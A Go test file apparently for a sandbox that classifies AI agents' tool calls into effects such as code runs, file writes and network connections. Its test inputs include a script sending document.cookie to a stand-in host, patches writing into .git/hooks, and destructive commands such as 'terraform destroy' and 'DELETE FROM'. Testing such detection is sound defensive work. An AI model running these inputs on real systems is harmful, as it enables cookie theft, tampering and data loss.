package lower

import (
	"context"
	"strings"
	"testing"

	"github.com/cordon-sandbox/cordon"
)

func TestCodeUnderAnyNameIsRead(t *testing.T) {
	check(t, []row{
		{"content of a Python tool", "run_python", `{"content":"f(1)"}`, []string{"run_code python: f(1)", "execute python<f(1)>"}},
		{"a statement of a Python tool", "run_python", `{"statements":"import a"}`, []string{"run_code python: import a", "execute python<import a>"}},
		{"the text of a script", "run_python", `{"script_text":"f(1)"}`, []string{"run_code python: f(1)", "execute python<f(1)>"}},
		{"the body of a query", "execute_sql", `{"body":"DELETE FROM a"}`, []string{"run_code sql: DELETE FROM a", "execute sql<DELETE FROM a>"}},
		{"a raw query", "mydb_query", `{"raw_query":"DELETE FROM a"}`, []string{"run_code sql: DELETE FROM a", "execute sql<DELETE FROM a>"}},
		{"the text of SQL", "mydb_query", `{"sqlText":"DELETE FROM a"}`, []string{"run_code sql: DELETE FROM a", "execute sql<DELETE FROM a>"}},
		{"text of a shell tool", "Bash", `{"text":"f 1"}`, []string{"run_code shell: f 1", "execute shell<f 1>"}},
		{"text beside a command is text", "Bash", `{"command":"ls","text":"f 1"}`, []string{"run_code shell: ls", "execute shell<ls>"}},
		{"lines of one text", "run_python", `{"code":["a","b"]}`, []string{"run_code python: a\nb", "execute python<a\nb>"}},
		{"arguments in one string", "run_command", `{"command":"ls","args":"-l a"}`, []string{"run_code shell: ls -l a", "execute shell<ls -l a>", "run_code shell: ls '-l a'", "execute shell<ls '-l a'>"}},
		{"what a program reads", "run_command", `{"command":"sh","stdin":"f 1"}`, []string{
			"run_code shell: sh <<'CORDON_INPUT'\nf 1\nCORDON_INPUT\n doubtful", "execute shell<sh <<'CORDON_INPUT'\nf 1\nCORDON_INPUT\n> doubtful",
			"run_code shell: sh", "execute shell<sh>"}},
		{"a command as a key", "run_command", `{"command":{"f 1":true}}`, []string{"opaque: malformed: the argument is a boolean (want a string)", "run_code shell: f 1", "execute shell<f 1>"}},
		{"source text of a tool that formats", "tidy", `{"source":"The fox; it was lazy (1999)"}`, []string{"send tidy: The fox; it was lazy (1999) doubtful"}},
		{"JSON for a tool that executes", "execute_flow", `{"data":"{\"cmd\": \"f 1\"}"}`, []string{"run_code shell: f 1", "execute shell<f 1>", "execute python<f 1> doubtful", "execute javascript<f 1> doubtful"}},
	})
}

func TestTextThatIsNoProgramOfItsLanguageIsReadInOthers(t *testing.T) {
	check(t, []row{
		{"Python said to be a shell's", "run_code", `{"language":"bash","code":"f(1)"}`, []string{
			"run_code shell: f(1)", "execute shell<f(1)>", "execute python<f(1)> doubtful", "execute javascript<f(1)> doubtful"}},
		{"a tool of one language", "run_python", `{"code":"not python"}`, []string{"run_code python: not python", "opaque: not a python program: unexpected end"}},
	})
}

func TestAPathThatIsAKeyIsNotTakenForAName(t *testing.T) {
	check(t, []row{
		{"a key with the word file in it", "mcp__x__write_many", `{"files":{"/srv/cron/file":"x"}}`, []string{"write /srv/cron/file"}},
		{"a key with the word eval in it", "MultiEdit", `{"changes":{"/srv/eval-1/code":[{"newText":"x"}]}}`, []string{"write /srv/eval-1/code"}},
	})
}

func TestAPageThatLoadsSomethingConnects(t *testing.T) {
	for _, r := range []struct {
		name, tool, arg, text, want string
	}{
		{"a picture", "browser_evaluate", "function", `new Image().src = "https://a.example/?" + document.cookie`, "a.example"},
		{"the page's own place", "puppeteer_evaluate", "script", `document.location="//a.example/"`, "a.example"},
		{"a page of its own", "browser_navigate", "url", `data:text/html,<img src=https://a.example/x>`, "a.example"},
		{"a page of its own in base64", "browser_navigate", "url", `data:text/html;base64,PGltZyBzcmM9Ly9hLmV4YW1wbGUvPg==`, "a.example"},
		{"a comparison", "browser_evaluate", "function", `() => location.href === "https://a.example/"`, ""},
		{"a comment", "browser_evaluate", "function", "() => { // see https://a.example/\n return 1 }", ""},
		{"a page with text alone", "browser_navigate", "url", `data:text/html,<p>x</p>`, ""},
	} {
		l := lowerer(t, DefaultLanguages())
		got := ""
		args := `{"` + r.arg + `":` + quoteJSON(r.text) + `}`
		for _, e := range l.Lower(context.Background(), "", r.tool, parse(t, args), testEnv).Effects {
			if e.Kind == cordon.Connect {
				got = e.Target
			}
		}
		if got != r.want {
			t.Errorf("%s: connects to %q (want %q)", r.name, got, r.want)
		}
	}
}

func quoteJSON(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`).Replace(s) + `"`
}

func TestPatchesGivenToACommandAreRead(t *testing.T) {
	const add = "*** Begin Patch\n*** Add File: /srv/x\n+y\n*** End Patch\n"
	const diff = "--- a/m.py\n+++ b/.git/hooks/x\n@@ -0,0 +1 @@\n+y\n"
	for _, r := range []struct{ name, command, want string }{
		{"a here-document", "apply_patch <<'E'\n" + add + "E\n", "write /srv/x (create)"},
		{"an argument", "apply_patch '" + add + "'", "write /srv/x (create)"},
		{"a pipe", "echo '" + add + "' | apply_patch", "write /srv/x (create)"},
		{"after a change of directory", "cd src && apply_patch <<'E'\n*** Delete File: ../a\nE\n", "delete ../a in /work/src"},
		{"git", "git -C . apply - <<'E'\n" + diff + "E\n", "write .git/hooks/x"},
		{"patch", "patch -p1 <<'E'\n" + diff + "E\n", "write .git/hooks/x"},
		{"printf", `printf -- '--- a/x\n+++ b/.git/hooks/x\n' | git apply`, "write .git/hooks/x"},
		{"a file without lines", "git apply <<'E'\ndiff --git a/x b/.git/hooks/x\nnew file mode 100755\nE\n", "write .git/hooks/x"},
		{"a commit's message", "git commit -F - <<'E'\napply_patch of\n*** Add File: /srv/x\nE\n", ""},
		{"text that is written", "cat > a.md <<'E'\napply_patch\n*** Add File: /srv/x\nE\n", ""},
	} {
		l := lowerer(t, DefaultLanguages())
		args := `{"command":` + quoteJSON(r.command) + `}`
		got := strings.Join(says(l.Lower(context.Background(), "", "Bash", parse(t, args), testEnv).Effects), "\n")
		if r.want == "" && (strings.Contains(got, "/srv/x (create)") || strings.Contains(got, "write .git")) || !strings.Contains(got, r.want) {
			t.Errorf("%s: got\n%s\nwant %q", r.name, got, r.want)
		}
	}
}

func TestAToolNamedAfterAProgramRunsIt(t *testing.T) {
	check(t, []row{
		{"arguments in a list", "terraform", `{"args":["destroy","-x"]}`, []string{"run_code shell: terraform destroy -x", "execute shell<terraform destroy -x>"}},
		{"arguments in one string", "mcp__k8s__kubectl", `{"args":"delete ns a"}`, []string{
			"run_code shell: kubectl delete ns a", "execute shell<kubectl delete ns a>", "run_code shell: kubectl 'delete ns a'", "execute shell<kubectl 'delete ns a'>"}},
		{"a command without its name", "kubectl", `{"command":"get pods"}`, []string{
			"run_code shell: get pods", "execute shell<get pods>", "run_code shell: kubectl get pods", "execute shell<kubectl get pods>",
			"run_code shell: kubectl 'get pods'", "execute shell<kubectl 'get pods'>"}},
		{"a command with its name", "git", `{"command":"git status"}`, []string{"run_code shell: git status", "execute shell<git status>"}},
		{"a name with more words", "git_status", `{"args":["x"]}`, nil},
		{"an interpreter that nothing reads", "ruby", `{"code":"f(1)"}`, []string{"run_code ruby: f(1)", "opaque: no reader for ruby"}},
		{"an interpreter that nothing reads, run", "run_perl", `{"code":"f(1)"}`, []string{"run_code perl: f(1)", "opaque: no reader for perl"}},
		{"a manual of one", "perl_manual", `{"topic":"f(1)"}`, nil},
	})
}

func TestHostsUnderOtherNamesAreFound(t *testing.T) {
	check(t, []row{
		{"a tool that pings", "ping", `{"target":"a.example"}`, []string{"connect a.example (tcp)"}},
		{"a tool that resolves", "dns_lookup", `{"name":"a.example"}`, []string{"connect a.example (tcp)"}},
		{"a tool that looks up something else", "word_lookup", `{"name":"a.example"}`, nil},
		{"a recipient that is an address", "send_http", `{"to":"https://a.example/","body":"x"}`, []string{"connect a.example (https) sends", "send https://a.example/: x"}},
		{"a recipient that is none", "send_http", `{"to":"ops","body":"x"}`, []string{"send ops: x"}},
		{"a connection string of words", "open_db", `{"dsn":"host=a.example port=5432 user=b"}`, []string{"connect a.example:5432 (tcp)", "send open_db: host=a.example port=5432 user=b"}},
		{"a connection string of pairs", "open_db", `{"connectionString":"Data Source=tcp:a.example,1433;Database=b"}`, []string{"connect a.example:1433 (tcp)", "send open_db: Data Source=tcp:a.example,1433;Database=b"}},
		{"a connection string of a driver", "open_db", `{"dsn":"u:p@tcp(a.example:3306)/b"}`, []string{"connect a.example:3306 (tcp)", "send open_db: u:p@tcp(a.example:3306)/b"}},
		{"a search that looks like one", "find_logs", `{"filter":"host=a.example level=error"}`, []string{"send find_logs: host=a.example level=error doubtful"}},
	})
}

func TestNotesAreHandedToLaterSessions(t *testing.T) {
	check(t, []row{
		{"a note", "memory add_observations", `{"observations":[{"entityName":"a","contents":["the build is in ~/out of a.example"]}]}`,
			[]string{"send add_observations: the build is in ~/out of a.example doubtful"}},
		{"a short one", "memory add_observations", `{"observations":[{"entityName":"a","contents":["short"]}]}`, nil},
	})
}
